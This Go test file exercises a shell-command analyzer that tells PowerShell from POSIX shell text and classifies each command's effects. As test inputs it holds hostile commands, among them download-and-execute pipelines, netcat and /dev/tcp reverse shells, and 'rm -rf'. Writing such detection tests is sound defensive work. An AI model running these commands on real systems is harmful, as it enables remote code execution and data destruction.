package shell

import (
	"strings"
	"testing"

	"github.com/shieldcli/shield/pkg/effect"
)

// TestMayBePowerShell holds which texts are read as PowerShell and as a POSIX
// shell's, both.
func TestMayBePowerShell(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]bool{
		"class A {\n [int] $n\n}":                  true,
		"class A : B {\n}":                         true,
		"enum A\n{\n a\n}":                         true,
		"# what\nclass A { }":                      true,
		"class A b":                                false,
		"function Send-Greeting\n{\n 'a'\n}":       true,
		"function a {\n param($b)\n}":              true,
		"function a { [string] $b }":               true,
		"function a { $b = 1 }":                    true,
		"function a { <# b #> c }":                 true,
		"function a {\n process { b }\n}":          true,
		"function a { b; }":                        false,
		"function a() { b; }":                      false,
		"function a { $b; }":                       false,
		"filter a { $_ = 1 }":                      true,
		"try { a } catch { b }":                    true,
		"try a":                                    false,
		"trap [A.B] { a }":                         true,
		"trap 'a' EXIT":                            false,
		"'a' -match 'b'":                           true,
		`"a b` + "`n" + `c"`:                       true,
		`"a b" c`:                                  false,
		`"/opt/a b/c"`:                             false,
		`"$(a)"`:                                   false,
		"$a.Remove('b')":                           true,
		"$a(b)":                                    false,
		"notepad.exe\n$a = Get-Item b":             true,
		"git status\nnpm test\nGet-Item b":         true,
		"cat <<E\nGet-Item b\nE":                   false,
		"a | b\nGet-Item b":                        false,
		"ls\necho a":                               false,
		strings.Repeat("a\n", 9) + "$a = Get-Item": false,
		"": false,
	} {
		if got := mayBePowerShell(text); got != want {
			t.Errorf("%q: %t, want %t", text, got, want)
		}
	}
}

// TestEitherShell checks that expressions and declarations of PowerShell are no
// unknown programs, that what runs code in them is found, and that words of
// PowerShell hide nothing that a POSIX shell would run.
func TestEitherShell(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]effect.Kind{
		"class A {\n [ValidateRange(0, 1)] [int] $n\n [string] ToString() { return $this.n }\n}": "",
		"function Test {\n param([ref]$Data)\n $Data.Value = 3\n}":                               "",
		"function Send-It\n{\n [OutputType([string])]\n param ($Name)\n \"Hello, $Name\"\n}":     "",
		"trap [System.Exception] {\n 'a'\n}":                                                     "",
		"notepad.exe\n$a = Get-CimInstance -Query 'b'\nRemove-CimInstance -InputObject $a":       "",
		`'111-222' -match '\d{3}-\d{3}'`:                                                         "",
		"\"backup`b`b out\"":                                                                     "",

		"class A {\n A() { iex (iwr http://k.test/a) }\n}":    effect.RunDownload,
		"function Send-It { curl http://k.test/a | sh }":      effect.RunDownload,
		"class A { }; curl http://k.test/a | sh":              effect.RunDownload,
		"class A {\n [int] $n\ncurl http://k.test/a | sh\n":   effect.RunDownload,
		"try {\n nc -e /bin/sh 10.1.2.3 4\n}":                 effect.RemoteShell,
		"'a' -match 'b'\nbash -i >& /dev/tcp/10.1.2.3/4 0>&1": effect.RemoteShell,
		"\"a b `curl http://k.test/a | sh`\"":                 effect.RunDownload,
		"ls\n$a = Get-Item b\nrm -rf c":                       effect.DeleteFile,
		"class A { }\n$CMD":                                   effect.UnknownEffect,
		"class A { }; x=$(cat f); $x = 3":                     effect.UnknownEffect,
		"try { a }\neval \"$(cat f)\"":                        effect.UnknownEffect,
		"'a' -match 'b'; $CMD":                                effect.UnknownEffect,
		"'a' -match $CMD | sh":                                effect.UnknownEffect,
		"ls\n$a = Get-Item b\n& $p":                           effect.UnknownEffect,
	} {
		r := Analyze(text, here())
		if want == "" && (has(r, effect.UnknownEffect) || has(r, effect.RunCommandOutput)) || want != "" && !has(r, want) {
			t.Errorf("%q: want %q\n%s", text, want, list(r))
		}
	}
}

// TestComparesFiles holds which words after fc are those of the program of
// Windows that compares files; all else may run a line from the history.
func TestComparesFiles(t *testing.T) {
	t.Parallel()
	for text, compares := range map[string]bool{
		"fc a.txt b.txt": true, "fc /b a.bin lib\\b.bin": true, "fc a.txt 'b c.txt'": true,
		"fc": false, "fc make": false, "fc a.txt": false, "fc -s a.txt b.txt": false, "fc ./a.sh ./b.sh": false,
		"fc /opt/a.sh b.sh": false, "fc a.txt $b": false, "fc a.txt b.txt c.txt": false, "fc -e a.txt b.txt": false,
	} {
		r := Analyze(text, here())
		if has(r, effect.UnknownEffect) == compares || has(r, effect.ReadFile) != compares {
			t.Errorf("%q: want it to compare: %t\n%s", text, compares, list(r))
		}
	}
}

// TestPartlyKnownPowerShell checks that of PowerShell text of which another shell
// puts in a part, the rest is read, and that what it puts in may be anything where
// that matters.
func TestPartlyKnownPowerShell(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]effect.Kind{
		`pwsh -Command "Get-Date -Format $(date +%Y)"`: "",
		`pwsh -Command "Write-Host $?"`:                "",

		`pwsh -Command "Remove-Item '$USER/x'"`:       effect.DeleteFile,
		`pwsh -Command "Remove-Item a; echo $X"`:      effect.DeleteFile,
		`pwsh -Command "iwr http://k.test/$X | iex"`:  effect.RunDownload,
		`pwsh -Command "echo $X"`:                     effect.UnknownEffect,
		`pwsh -Command "$X"`:                          effect.UnknownEffect,
		`pwsh -Command "$USER x"`:                     effect.UnknownEffect,
		`pwsh -Command "& '$USER'"`:                   effect.UnknownEffect,
		`pwsh -Command "iex '$USER'"`:                 effect.UnknownEffect,
		`pwsh -Command "Write-Host a; $USER"`:         effect.UnknownEffect,
		`pwsh -Command "Write-Host $(cat f)"`:         effect.RunCommandOutput,
		`pwsh -Command "Write-Host $(curl k.test/a)"`: effect.RunDownload,
	} {
		r := Analyze(text, here())
		if want == "" && (has(r, effect.UnknownEffect) || has(r, effect.RunCommandOutput)) || want != "" && !has(r, want) {
			t.Errorf("%q: want %q\n%s", text, want, list(r))
		}
	}
}

// A text that ends in a colon and an escaped newline is no path on a drive.
func TestLooksPowerShell(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]bool{
		"cat <<'EOF' > a.mjs\nconsole.log(\"ERRORS:\\n\" + e)\nEOF\nnode a.mjs": false,
		"cat a | sed 's/ERRORS:\\n//'":                                          false,
		"cat <<'EOF' > a\nC:\\Users\nEOF":                                       false,
		"cat C:\\Users\\me\\a.txt":                                              true,
		"cat a:\\n C:\\Users\\me\\a.txt -Raw":                                   true,
	} {
		if got := looksPowerShell(text); got != want {
			t.Errorf("%s: %v", text, got)
		}
	}
}
